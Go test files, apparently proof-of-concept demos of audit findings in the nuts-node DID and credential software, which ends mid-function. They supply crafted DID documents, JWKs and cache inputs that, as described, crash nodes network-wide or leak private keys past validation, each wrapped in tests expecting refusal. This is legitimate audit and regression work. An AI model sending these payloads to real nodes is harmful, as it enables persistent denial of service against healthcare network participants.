	"crypto/rand"
	"encoding/json"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwk"
	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/did"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Commit d4b450a ("refuse did:nuts documents whose publicKeyJwk contains a private key") accepts a publicKeyJwk only if it is a
// jwk.ECDSAPublicKey, jwk.RSAPublicKey or jwk.OKPPublicKey. Those are interfaces, and jwx' OKP *private* key type
// has all methods of jwk.OKPPublicKey (FromRaw(interface{}), Crv(), X()), so it matches that case as well:
// a verification method whose publicKeyJwk is a complete Ed25519 private JWK (with "d") still validates, for documents
// managed by this node (which are then signed and published to the whole network, append-only) and for documents received from peers.
func TestDemo_DocumentWithEd25519PrivateKeyIsRefused(t *testing.T) {
	document, _ := newDidDoc(t)

	// An Ed25519 key pair, in (private) JWK form
	_, privateKey, err := ed25519.GenerateKey(rand.Reader)
	require.NoError(t, err)
	privateJWK, err := jwk.FromRaw(privateKey)
	require.NoError(t, err)
	require.NoError(t, jwk.AssignKeyID(privateJWK)) // kid = thumbprint (of the public members), as did:nuts requires
	privateJWKAsMap := map[string]interface{}{}
	data, _ := json.Marshal(privateJWK)
	require.NoError(t, json.Unmarshal(data, &privateJWKAsMap))
	require.Contains(t, privateJWKAsMap, "d", "sanity check: the JWK contains the private key")
	delete(privateJWKAsMap, "kid")

	// ... is added to the document as verification method
	methodID := did.DIDURL{DID: document.ID, Fragment: privateJWK.KeyID()}
	method := &did.VerificationMethod{
		ID:           methodID,
		Type:         ssi.JsonWebKey2020,
		Controller:   document.ID,
		PublicKeyJwk: privateJWKAsMap,
	}
	document.VerificationMethod.Add(method)
	document.AssertionMethod.Add(method)

	// sanity check: this is what would be published
	published, _ := json.Marshal(document)
	require.Contains(t, string(published), `"d":"`)

	t.Run("document managed by this node (before it is published)", func(t *testing.T) {
		err := ManagedDocumentValidator(nil).Validate(document)
		assert.Error(t, err, "document that discloses an Ed25519 private key must be refused")
	})
	t.Run("document received from the network", func(t *testing.T) {
		err := NetworkDocumentValidator().Validate(document)
		assert.Error(t, err, "document that discloses an Ed25519 private key must be refused")
	})
	t.Run("sanity: the same key as public JWK is accepted", func(t *testing.T) {
		publicDocument, _ := newDidDoc(t)
		publicMethod, err := did.NewVerificationMethod(did.DIDURL{DID: publicDocument.ID, Fragment: privateJWK.KeyID()}, ssi.JsonWebKey2020, publicDocument.ID, privateKey.Public())
		require.NoError(t, err)
		publicDocument.VerificationMethod.Add(publicMethod)
		publicDocument.AssertionMethod.Add(publicMethod)
		assert.NoError(t, NetworkDocumentValidator().Validate(publicDocument))
	})
}
