package dag

import (
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Secondary demo (same root cause as the did:nuts validator): commit 49e576d ("refuse a DAG transaction that embeds a private key")
// lets an OKP (Ed25519) private key through, because jwx' OKP private key type satisfies the jwk.OKPPublicKey interface.
// (Such a transaction is refused later on by the signature verifier, because EdDSA is not an allowed transaction algorithm.)
func TestDemo_ParseTransaction_Ed25519PrivateKeyInJWKHeader(t *testing.T) {
	signer, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	_, embeddedPrivateKey, _ := ed25519.GenerateKey(rand.Reader)
	embeddedJWK, err := jwk.FromRaw(embeddedPrivateKey)
	require.NoError(t, err)

	headers := makeJWSHeaders(signer, "123", true)
	require.NoError(t, headers.Set(jws.JWKKey, embeddedJWK))
	payload := hash.SHA256Sum([]byte("payload"))
	data, err := jws.Sign([]byte(payload.String()), jws.WithKey(headers.Algorithm(), signer, jws.WithProtectedHeaders(headers)))
	require.NoError(t, err)

	_, err = ParseTransaction(data)

	assert.EqualError(t, err, "transaction validation failed: `jwk` header must contain a public key")
}
