package didnuts

// C19 demo (vdr/didnuts): a controller document with a capabilityInvocation verification method that is embedded in the
// relationship and has no key material passes the network validator; a later update of a controlled document then
// dereferences the nil JWK in findKeyByThumbprint (DAG subscriber goroutine).
// go test -run TestDemoC19_embedded ./vdr/didnuts/

import (
	"encoding/json"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/stretchr/testify/require"
)

func TestDemoC19_embeddedMethodWithoutKeyMaterial(t *testing.T) {
	var doc did.Document
	require.NoError(t, json.Unmarshal([]byte(`{"@context":["https://www.w3.org/ns/did/v1"],"id":"did:nuts:abc",
	  "capabilityInvocation":[{"id":"did:nuts:abc#k1","type":"JsonWebKey2020","controller":"did:nuts:abc"}]}`), &doc))
	require.Len(t, doc.CapabilityInvocation, 1)
	if err := NetworkDocumentValidator().Validate(doc); err != nil {
		t.Skipf("validator refuses the document (%v): not reachable", err)
	}
	require.NotPanics(t, func() {
		_, _ = ambassador{}.findKeyByThumbprint([]byte("thumbprint"), doc.CapabilityInvocation)
	})
}
