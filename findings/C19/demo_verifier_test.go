package verifier

// C19 demo (vcr/verifier): go test -run TestDemoC19 ./vcr/verifier/
import (
	"testing"

	ssi "github.com/nuts-foundation/go-did"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

func TestDemoC19_nonDIDIssuer(t *testing.T) {
	ctx := newMockContext(t)
	ctx.store.EXPECT().GetRevocations(gomock.Any()).Return(nil, ErrNotFound).AnyTimes()
	cred := testCredential(t)
	cred.Type = []ssi.URI{vc.VerifiableCredentialTypeV1URI(), ssi.MustParseURI("SomeOtherCredential")}
	cred.Issuer = ssi.MustParseURI("https://example.com/issuer")
	var err error
	require.NotPanics(t, func() { err = ctx.verifier.Verify(cred, true, true, nil) })
	require.Error(t, err)
}
