package didweb

import (
	"bytes"
	"crypto"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/require"
)

// staticDoer is a core.HTTPRequestDoer that answers every request with the given did.json
// (the repository's TLS test server can't be used: its certificate has expired).
type staticDoer struct {
	body string
}

func (s staticDoer) Do(_ *http.Request) (*http.Response, error) {
	return &http.Response{
		StatusCode: http.StatusOK,
		Status:     "200 OK",
		Header:     http.Header{"Content-Type": []string{"application/did+json"}},
		Body:       io.NopCloser(bytes.NewReader([]byte(s.body))),
	}, nil
}

// Demo for property C19 (untrusted input never crashes the node).
//
// A did:web document is served by a remote web server chosen by whoever presents a did:web DID to the node
// (e.g. as signer of a presentation/credential/client assertion sent to the public API): its content is untrusted.
// The test serves the (valid) document of web_test.go with structure-aware mutations (null member, empty string).
// Resolving the DID, and resolving a key from it the way signature verification does, must return an error (or a result),
// but never panic.
func TestDemo_C19_NullVerificationMethodInDIDWebDocument(t *testing.T) {
	id := did.MustParseDID("did:web:example.com")
	validDocument := strings.ReplaceAll(didDocTemplate, "<did>", id.String())

	documents := map[string]string{
		// go-did keeps the null as nil *VerificationMethod and dereferences it itself when it resolves the capabilityInvocation reference
		"null entry in verificationMethod": strings.Replace(validDocument, `"verificationMethod": [`, `"verificationMethod": [ null,`, 1),
		// go-did leaves a relationship with a nil embedded *VerificationMethod for an empty reference; DIDKeyResolver dereferences it
		"empty string as relationship reference": strings.Replace(validDocument, `"capabilityInvocation": [`, `"capabilityInvocation": [ "", `, 1),
		"'#' as relationship reference":          strings.Replace(validDocument, `"capabilityInvocation": [`, `"capabilityInvocation": [ "#", `, 1),
	}

	for name, document := range documents {
		t.Run(name, func(t *testing.T) {
			require.NotEqual(t, validDocument, document, "mutation not applied")
			didResolver := &Resolver{HttpClient: staticDoer{body: document}}
			keyResolver := resolver.DIDKeyResolver{Resolver: didResolver}

			var panicked interface{}
			var key crypto.PublicKey
			var err error
			func() {
				defer func() {
					panicked = recover()
				}()
				// what e.g. the VP/VC/JWT signature verification does for a did:web signer
				key, err = keyResolver.ResolveKeyByID(id.String()+"#aQgahRFAhdStcQyD6R25fFYslo4JZXuqYUySTtXB_Lo", nil, resolver.CapabilityInvocation)
			}()
			if panicked != nil {
				t.Fatalf("property violated: did:web document served by a remote server made the resolver panic: %v\ndocument: %s", panicked, document)
			}
			// either outcome is fine as long as it terminates normally: the document is refused, or the valid key is found
			if err == nil {
				require.NotNil(t, key)
			}
		})
	}

	t.Run("sanity check: unmodified document resolves", func(t *testing.T) {
		keyResolver := resolver.DIDKeyResolver{Resolver: &Resolver{HttpClient: staticDoer{body: validDocument}}}
		key, err := keyResolver.ResolveKeyByID(id.String()+"#aQgahRFAhdStcQyD6R25fFYslo4JZXuqYUySTtXB_Lo", nil, resolver.CapabilityInvocation)
		require.NoError(t, err)
		require.NotNil(t, key)
	})
}
