package client

import (
	"net/http"
	"testing"
	"time"

	"github.com/nuts-foundation/nuts-node/test"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// returns false when fn does not return in time (it then keeps spinning in its goroutine, holding the cache mutex)
func returnsInTime(fn func()) bool {
	done := make(chan struct{})
	go func() {
		defer close(done)
		fn()
	}()
	select {
	case <-done:
		return true
	case <-time.After(2 * time.Second):
		return false
	}
}

// A cacheable response from a remote server (did:web document, status list, OpenID metadata) whose body is exactly
// http.cache.maxbytes long passed the "larger than the cache" sanity check, after which the make-room loop
// (currentSizeBytes+len >= maxBytes) can never become false: insert spins forever holding the cache mutex, and every
// later request through the caching client blocks.
func TestDemoC19_CacheableResponseOfExactlyCacheSizeDoesNotHang(t *testing.T) {
	body := make([]byte, 64)
	sink := &stubRoundTripper{statusCode: http.StatusOK, data: body, headers: map[string]string{"Cache-Control": "max-age=3600"}}
	client := NewCachingTransport(sink, len(body))
	request, _ := http.NewRequest(http.MethodGet, "http://example.com/did.json", nil)

	ok := returnsInTime(func() { _, _ = client.RoundTrip(request) })

	require.True(t, ok, "RoundTrip did not return: the cache insert loops forever")
}

// insert() put a new entry in front of the head by making the OLD head point to it: the old head dropped out of the
// linked list but stayed in the URL index and in currentSizeBytes. Such entries are never evicted and never expire, so
// (1) the accounted size only grows until the make-room loop has popped the whole list and still has no room: it then
// spins forever; (2) a stale response is served from the cache after its expiry.
func TestDemoC19_CacheKeepsEveryEntryInTheEvictionList(t *testing.T) {
	t.Run("accounted size equals the size of the entries in the list, insert terminates", func(t *testing.T) {
		client := NewCachingTransport(&stubRoundTripper{}, 100)
		insert := func(path string, size int) func() {
			return func() {
				client.cache.insert(&cacheEntry{
					responseData:   make([]byte, size),
					requestURL:     test.MustParseURL("http://example.com/" + path),
					expirationTime: time.Now().Add(time.Hour),
				})
			}
		}
		require.True(t, returnsInTime(insert("1", 30)))
		require.True(t, returnsInTime(insert("2", 30)))
		require.True(t, returnsInTime(insert("3", 30)))
		// needs more room than evicting what the list still holds can give, if the list lost entries
		require.True(t, returnsInTime(insert("4", 60)), "insert did not return: entries that dropped out of the list can't be evicted")

		listed := 0
		for e := client.cache.head; e != nil; e = e.next {
			listed += len(e.responseData)
		}
		assert.Equal(t, listed, client.cache.currentSizeBytes)
	})
	t.Run("an expired entry is not served", func(t *testing.T) {
		sink := &stubRoundTripper{statusCode: http.StatusOK, data: []byte("fresh")}
		client := NewCachingTransport(sink, 1000)
		request, _ := http.NewRequest(http.MethodGet, "http://example.com/1", nil)
		client.cache.insert(&cacheEntry{
			responseData:   []byte("stale"),
			requestMethod:  http.MethodGet,
			requestURL:     request.URL,
			expirationTime: time.Now().Add(50 * time.Millisecond),
		})
		client.cache.insert(&cacheEntry{
			responseData:   []byte("other"),
			requestMethod:  http.MethodGet,
			requestURL:     test.MustParseURL("http://example.com/2"),
			expirationTime: time.Now().Add(time.Hour),
		})
		time.Sleep(100 * time.Millisecond)

		_, err := client.RoundTrip(request)

		require.NoError(t, err)
		assert.Equal(t, 1, sink.invocations, "expected the expired entry to be dropped and the request to go to the server")
	})
}
