package didnuts

// Demo for audit finding C09/3: a DID document with a `null` entry in `verificationMethod` is not refused as malformed,
// it crashes the node (nil pointer dereference in the DAG subscriber, nothing recovers the panic). The document is parsed and
// validated BEFORE any authorization check, so any network participant can send it (creation transaction with a fresh key).
//
// Real signed creation transaction -> real ambassador.handleNetworkEvent -> real DID store. Only network.Transactions is mocked.

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"fmt"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/audit"
	nutsCrypto "github.com/nuts-foundation/nuts-node/crypto"
	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/nuts-foundation/nuts-node/network"
	"github.com/nuts-foundation/nuts-node/network/dag"
	"github.com/nuts-foundation/nuts-node/vdr/didnuts/didstore"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

func TestDemoC09_NullVerificationMethodCrashesTheNode(t *testing.T) {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	keyJWK, _ := jwk.FromRaw(key.Public())
	thumbprint, _ := nutsCrypto.Thumbprint(keyJWK)
	id := did.MustParseDID("did:nuts:" + thumbprint)
	kid := id.String() + "#key"

	testCases := []struct {
		name string
		doc  string
	}{
		{
			name: "null verification method (panics in the validator)",
			doc:  fmt.Sprintf(`{"@context":"https://www.w3.org/ns/did/v1","id":"%s","verificationMethod":[null]}`, id),
		},
		{
			name: "null verification method and a relationship that refers to a verification method (panics while parsing)",
			doc:  fmt.Sprintf(`{"@context":"https://www.w3.org/ns/did/v1","id":"%s","verificationMethod":[null],"capabilityInvocation":["#key"]}`, id),
		},
		{
			name: "same, differently cased property name",
			doc:  fmt.Sprintf(`{"@context":"https://www.w3.org/ns/did/v1","id":"%s","VerificationMethod":[null],"capabilityInvocation":["#key"]}`, id),
		},
	}
	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			store := didstore.NewTestStore(t)
			nw := network.NewMockTransactions(gomock.NewController(t))
			nw.EXPECT().DiscoverServices(gomock.Any()).AnyTimes()
			amb := &ambassador{
				networkClient: nw,
				didStore:      store,
				keyResolver:   dag.SourceTXKeyResolver{Resolver: Resolver{Store: store}},
				didResolver:   &Resolver{Store: store},
			}

			// A valid creation transaction: signed with (and embedding) a fresh key. Anyone can make this.
			payload := []byte(tc.doc)
			unsigned, err := dag.NewTransaction(hash.SHA256Sum(payload), DIDDocumentType, nil, nil, 0)
			require.NoError(t, err)
			privJWK, _ := jwk.FromRaw(key)
			_ = privJWK.Set(jwk.KeyIDKey, kid)
			tx, err := dag.NewTransactionSigner(nutsCrypto.MemoryJWTSigner{Key: privJWK}, kid, key.Public()).Sign(audit.TestContext(), unsigned, time.Now())
			require.NoError(t, err)
			require.NoError(t, dag.NewTransactionSignatureVerifier(nil)(nil, tx), "the DAG accepts the transaction")

			// The network hands the transaction + payload to the VDR (dag.Notifier -> ambassador.handleNetworkEvent).
			// Neither the notifier nor the ambassador recovers a panic: in the real node the process dies here.
			// The event is persisted before it is delivered, so it is delivered again at every restart.
			var finished bool
			var panicked interface{}
			func() {
				defer func() {
					panicked = recover()
				}()
				finished, err = amb.handleNetworkEvent(dag.Event{Type: dag.PayloadEventType, Hash: tx.Ref(), Transaction: tx, Payload: payload})
			}()

			require.Nil(t, panicked, "malformed DID document must be refused, not crash the node")
			assert.False(t, finished)
			assert.Error(t, err, "malformed DID document (not well-formed per DID-core) must be refused")
			assert.ErrorAs(t, err, new(dag.EventFatal), "refusal must be final (no retries)")
			_, _, resolveErr := (&Resolver{Store: store}).Resolve(id, nil)
			assert.ErrorIs(t, resolveErr, resolver.ErrNotFound, "refused document must not become resolvable")
		})
	}
}
