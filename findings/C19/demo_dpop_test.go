package dpop

// C19 demo (crypto/dpop): go test -run TestDemoC19 ./crypto/dpop/
import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/stretchr/testify/require"
)

func demoToken(t *testing.T, htu any, htm any) string {
	priv, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	pub, _ := jwk.FromRaw(priv.Public())
	tok := jwt.New()
	_ = tok.Set(jwt.IssuedAtKey, time.Now())
	_ = tok.Set(jwt.JwtIDKey, "jti")
	_ = tok.Set(HTUKey, htu)
	_ = tok.Set(HTMKey, htm)
	hdrs := jws.NewHeaders()
	_ = hdrs.Set(jws.TypeKey, "dpop+jwt")
	_ = hdrs.Set(jws.JWKKey, pub)
	signed, err := jwt.Sign(tok, jwt.WithKey(jwa.ES256, priv, jws.WithProtectedHeaders(hdrs)))
	require.NoError(t, err)
	return string(signed)
}

func TestDemoC19_nonStringHTU(t *testing.T) {
	require.NotPanics(t, func() {
		d, err := Parse(demoToken(t, 123, "POST"))
		if err == nil {
			_, _ = d.Match(thumb(d), "POST", "https://example.com/token")
		}
	})
}

func TestDemoC19_unparsableHTU(t *testing.T) {
	require.NotPanics(t, func() {
		d, err := Parse(demoToken(t, "://%zz", "POST"))
		require.NoError(t, err)
		_, _ = d.Match(thumb(d), "POST", "https://example.com/token")
	})
}

func thumb(d *DPoP) string {
	tp, _ := d.Headers.JWK().Thumbprint(5)
	return b64(tp)
}

func b64(b []byte) string { return base64RawURL(b) }
