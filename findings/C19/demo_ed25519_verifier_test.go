package verifier

import (
	"crypto/ed25519"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"testing"
	"time"

	"github.com/lestrrat-go/jwx/v2/jwa"
	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/lestrrat-go/jwx/v2/jws"
	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/vdr/didjwk"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/require"
)

// Demo for property C19 (untrusted input never crashes the node).
//
// A Verifiable Presentation in JWT format, as posted by any party to the public API (e.g. as assertion in an RFC021
// token request, OpenID4VP response or Discovery Service registration), is signed by a DID chosen by the sender.
// With did:jwk the DID *is* the key, so the sender fully controls the key material the node verifies the signature with.
//
// The test signs a presentation with a valid did:jwk Ed25519 key (accepted), then presents the same kind of presentation
// for a did:jwk whose OKP key has a truncated "x" (structure-aware mutation: truncation). Verification must fail with
// an error. On the unchanged tree it panics in crypto/ed25519.Verify ("ed25519: bad public key length"), since nothing
// (go-did, jwx, DIDKeyResolver, crypto.ParseJWT) checks the length of the Ed25519 public key.
// The same happens for a did:web signer whose document lists such a key, and for JSON-LD proofs (proof.LDProof.Verify).
func TestDemo_C19_PresentationSignedWithTruncatedEd25519Key(t *testing.T) {
	// verifier with the real did:jwk resolver and the real DID key resolver
	keyResolver := resolver.DIDKeyResolver{Resolver: didjwk.NewResolver()}
	v := verifier{
		keyResolver:       keyResolver,
		signatureVerifier: signatureVerifier{keyResolver: keyResolver},
	}

	publicKey, privateKey, err := ed25519.GenerateKey(rand.Reader)
	require.NoError(t, err)

	didForKey := func(x []byte) string {
		keyJSON, _ := json.Marshal(map[string]string{"kty": "OKP", "crv": "Ed25519", "x": base64.RawURLEncoding.EncodeToString(x)})
		return "did:jwk:" + base64.RawStdEncoding.EncodeToString(keyJSON)
	}
	createPresentation := func(signerDID string) vc.VerifiablePresentation {
		token := jwt.New()
		_ = token.Set(jwt.IssuerKey, signerDID)
		_ = token.Set(jwt.NotBeforeKey, time.Now().Add(-time.Minute))
		_ = token.Set(jwt.ExpirationKey, time.Now().Add(time.Minute))
		_ = token.Set("vp", map[string]interface{}{
			"@context": []string{"https://www.w3.org/2018/credentials/v1"},
			"type":     []string{"VerifiablePresentation"},
		})
		headers := jws.NewHeaders()
		_ = headers.Set(jws.KeyIDKey, signerDID+"#0")
		_ = headers.Set(jws.TypeKey, "JWT")
		privateKeyJWK, err := jwk.FromRaw(privateKey)
		require.NoError(t, err)
		signed, err := jwt.Sign(token, jwt.WithKey(jwa.EdDSA, privateKeyJWK, jws.WithProtectedHeaders(headers)))
		require.NoError(t, err)
		presentation, err := vc.ParseVerifiablePresentation(string(signed))
		require.NoError(t, err)
		return *presentation
	}

	t.Run("sanity check: presentation signed by valid did:jwk Ed25519 key is accepted", func(t *testing.T) {
		_, err := v.VerifyVP(createPresentation(didForKey(publicKey)), false, false, nil)
		require.NoError(t, err)
	})

	for name, x := range map[string][]byte{
		"x truncated to 31 bytes": publicKey[:31],
		"x truncated to 1 byte":   publicKey[:1],
		"x with 1 byte appended":  append(append([]byte{}, publicKey...), 0),
	} {
		t.Run(name, func(t *testing.T) {
			presentation := createPresentation(didForKey(x))

			var verifyErr error
			var panicked interface{}
			func() {
				defer func() {
					panicked = recover()
				}()
				_, verifyErr = v.VerifyVP(presentation, false, false, nil)
			}()

			if panicked != nil {
				t.Fatalf("property violated: presentation made VerifyVP() panic: %v\npresentation: %s", panicked, presentation.Raw())
			}
			require.Error(t, verifyErr)
		})
	}
}
