package didnuts

import (
	"encoding/json"
	"fmt"
	"testing"
	"time"

	"github.com/nuts-foundation/nuts-node/crypto/hash"
	"github.com/stretchr/testify/require"
)

// Demo for property C19 (untrusted input never crashes the node).
//
// A did:nuts DID document received from the network (payload of a DAG transaction, any network participant can
// publish one) is processed by ambassador.callback() in the DAG subscriber goroutine. There is no recover() in that
// goroutine (nor anywhere else in the node), so a panic there terminates the process. The transaction stays in the DAG,
// is replayed on every restart and is gossiped to all other nodes.
//
// The test takes a VALID, freshly generated did:nuts document and applies structure-aware mutations
// (null member / empty string in an array). Every mutant must be rejected with an error. On the unchanged tree the
// callback panics with a nil pointer dereference instead.
func TestDemo_C19_NullVerificationMethodInNetworkDocument(t *testing.T) {
	mutations := map[string]func(doc map[string]interface{}){
		// "verificationMethod": [ {valid}, null ]   -> go-did keeps a nil *VerificationMethod in the slice;
		// ParseDocument itself dereferences it when resolving the (valid) relationship references
		"null entry appended to verificationMethod": func(doc map[string]interface{}) {
			doc["verificationMethod"] = append(doc["verificationMethod"].([]interface{}), nil)
		},
		// "verificationMethod": [ null ] and no relationship at all -> parse succeeds, did.W3CSpecValidator dereferences nil
		"verificationMethod is [null], no relationships": func(doc map[string]interface{}) {
			doc["verificationMethod"] = []interface{}{nil}
			for _, rel := range []string{"assertionMethod", "authentication", "capabilityInvocation", "capabilityDelegation", "keyAgreement"} {
				delete(doc, rel)
			}
		},
		// "assertionMethod": [ "" ]  -> go-did regards the empty reference as "not a reference" and leaves the
		// relationship with a nil embedded *VerificationMethod
		"empty string as assertionMethod reference": func(doc map[string]interface{}) {
			doc["assertionMethod"] = []interface{}{""}
		},
		// same for "#" (relative reference with empty fragment)
		"'#' as capabilityInvocation reference": func(doc map[string]interface{}) {
			doc["capabilityInvocation"] = append(doc["capabilityInvocation"].([]interface{}), "#")
		},
	}

	for name, mutate := range mutations {
		t.Run(name, func(t *testing.T) {
			// a valid document, as created by this node for a new DID
			validDocument, signingKey := newDidDoc(t)
			validJSON, err := json.Marshal(validDocument)
			require.NoError(t, err)

			// sanity check: the unmodified document is not rejected by the parsing/validation steps
			var sanity map[string]interface{}
			require.NoError(t, json.Unmarshal(validJSON, &sanity))
			require.NotEmpty(t, sanity["verificationMethod"])
			require.NotEmpty(t, sanity["capabilityInvocation"])

			// mutate
			var asMap map[string]interface{}
			require.NoError(t, json.Unmarshal(validJSON, &asMap))
			mutate(asMap)
			payload, err := json.Marshal(asMap)
			require.NoError(t, err)

			tx := testTransaction{
				signingKey:  signingKey,
				signingTime: time.Now(),
				ref:         hash.SHA256Sum([]byte("ref")),
				payloadHash: hash.SHA256Sum(payload),
				payloadType: DIDDocumentType,
			}
			ctx := newMockContext(t) // no calls expected on any mock: the document must be refused before it is stored

			var callbackErr error
			var panicked interface{}
			func() {
				defer func() {
					panicked = recover()
				}()
				callbackErr = ctx.ambassador.callback(tx, payload)
			}()

			if panicked != nil {
				t.Fatalf("property violated: network DID document made ambassador.callback() panic: %v\npayload: %s", panicked, payload)
			}
			require.Error(t, callbackErr, fmt.Sprintf("malformed document must be rejected with an error, payload: %s", payload))
		})
	}
}
