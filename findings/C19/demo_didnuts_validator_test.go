package didnuts

// C19 demo (vdr/didnuts): a did:nuts document received from the network whose verification method has no key material.
// go test -run TestDemoC19 ./vdr/didnuts/

import (
	"encoding/json"
	"testing"

	"github.com/nuts-foundation/go-did/did"
	"github.com/stretchr/testify/require"
)

func TestDemoC19_vmWithoutKeyMaterial(t *testing.T) {
	var doc did.Document
	require.NoError(t, json.Unmarshal([]byte(`{"@context":["https://www.w3.org/ns/did/v1"],"id":"did:nuts:abc","verificationMethod":[{"id":"did:nuts:abc#k1","type":"JsonWebKey2020","controller":"did:nuts:abc"}]}`), &doc))
	var err error
	require.NotPanics(t, func() { err = NetworkDocumentValidator().Validate(doc) })
	require.Error(t, err)
}
