package discovery

// C19 demo (discovery client): a discovery server lists a JWT presentation without jti (ID nil), or a JSON-LD presentation.
// go test -run TestDemoC19 ./discovery/

import (
	"context"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwt"
	"github.com/nuts-foundation/go-did/vc"
	"github.com/nuts-foundation/nuts-node/discovery/api/server/client"
	"github.com/nuts-foundation/nuts-node/storage"
	"github.com/stretchr/testify/require"
	"go.uber.org/mock/gomock"
)

func TestDemoC19_serverListsPresentationWithoutID(t *testing.T) {
	storageEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, storageEngine.Start())
	store, err := newSQLStore(storageEngine.GetSQLDatabase(), testDefinitions())
	require.NoError(t, err)
	ctx := context.Background()
	serviceDefinition := testDefinitions()[testServiceID]
	noID := createPresentationCustom(aliceDID, func(claims map[string]interface{}, vp *vc.VerifiablePresentation) {
		delete(claims, jwt.JwtIDKey)
	}, vcAlice)
	require.Nil(t, noID.ID)
	ctrl := gomock.NewController(t)
	httpClient := client.NewMockHTTPClient(ctrl)
	updater := newClientUpdater(testDefinitions(), store, alwaysOkVerifier, httpClient)
	httpClient.EXPECT().Get(ctx, serviceDefinition.Endpoint, 0).Return(map[string]vc.VerifiablePresentation{"1": noID}, testSeed, 1, nil)
	require.NotPanics(t, func() { _ = updater.updateService(ctx, serviceDefinition) })
}

func TestDemoC19_serverListsJSONLDPresentation(t *testing.T) {
	storageEngine := storage.NewTestStorageEngine(t)
	require.NoError(t, storageEngine.Start())
	store, err := newSQLStore(storageEngine.GetSQLDatabase(), testDefinitions())
	require.NoError(t, err)
	ctx := context.Background()
	serviceDefinition := testDefinitions()[testServiceID]
	ldVP, err := vc.ParseVerifiablePresentation(`{"@context":["https://www.w3.org/2018/credentials/v1"],"id":"did:example:1#1","type":"VerifiablePresentation","proof":{"type":"JsonWebSignature2020","verificationMethod":"did:example:1#k"}}`)
	require.NoError(t, err)
	ctrl := gomock.NewController(t)
	httpClient := client.NewMockHTTPClient(ctrl)
	updater := newClientUpdater(testDefinitions(), store, alwaysOkVerifier, httpClient)
	httpClient.EXPECT().Get(ctx, serviceDefinition.Endpoint, 0).Return(map[string]vc.VerifiablePresentation{"1": *ldVP}, testSeed, 1, nil)
	require.NotPanics(t, func() { _ = updater.updateService(ctx, serviceDefinition) })
}
