package didjwk

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/base64"
	"encoding/json"
	"testing"

	"github.com/lestrrat-go/jwx/v2/jwk"
	"github.com/nuts-foundation/go-did/did"
	"github.com/nuts-foundation/nuts-node/vdr/resolver"
	"github.com/stretchr/testify/require"
)

// Demo for property C19 (untrusted input never crashes the node).
//
// A did:jwk DID is the base64 encoded JWK itself. Whoever sends the node something signed by a did:jwk (presentation,
// credential, client assertion, OpenID4VCI proof: all on the public API) chooses the DID, so the JWK is untrusted input
// that is parsed by the did:jwk resolver before any signature is checked.
//
// The test encodes a VALID P-256 key as did:jwk (resolves fine), then makes a coordinate one byte longer than the curve
// allows (structure-aware mutation: extreme number). Resolution must fail with an error. On the unchanged tree the
// resolver panics ("math/big: buffer too small to fit value"): did.NewVerificationMethod -> jwk.FromRaw() -> big.Int.FillBytes().
func TestDemo_C19_DIDJWKWithOversizedECCoordinate(t *testing.T) {
	privateKey, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	require.NoError(t, err)
	publicKeyJWK, err := jwk.FromRaw(privateKey.Public())
	require.NoError(t, err)
	validJWK, err := json.Marshal(publicKeyJWK)
	require.NoError(t, err)

	keyResolver := resolver.DIDKeyResolver{Resolver: NewResolver()}
	resolveKey := func(jwkJSON []byte) (key interface{}, err error, panicked interface{}) {
		id := did.DID{Method: MethodName, ID: base64.RawStdEncoding.EncodeToString(jwkJSON)}
		id.DecodedID = id.ID
		defer func() {
			panicked = recover()
		}()
		// what signature verification does with the kid of a JWT
		key, err = keyResolver.ResolveKeyByID(id.String()+"#0", nil, resolver.AssertionMethod)
		return
	}

	t.Run("sanity check: valid key resolves", func(t *testing.T) {
		key, err, panicked := resolveKey(validJWK)
		require.Nil(t, panicked)
		require.NoError(t, err)
		require.NotNil(t, key)
	})

	for _, coordinate := range []string{"x", "y"} {
		t.Run("oversized "+coordinate, func(t *testing.T) {
			var asMap map[string]interface{}
			require.NoError(t, json.Unmarshal(validJWK, &asMap))
			decoded, err := base64.RawURLEncoding.DecodeString(asMap[coordinate].(string))
			require.NoError(t, err)
			asMap[coordinate] = base64.RawURLEncoding.EncodeToString(append([]byte{1}, decoded...))
			mutatedJWK, _ := json.Marshal(asMap)

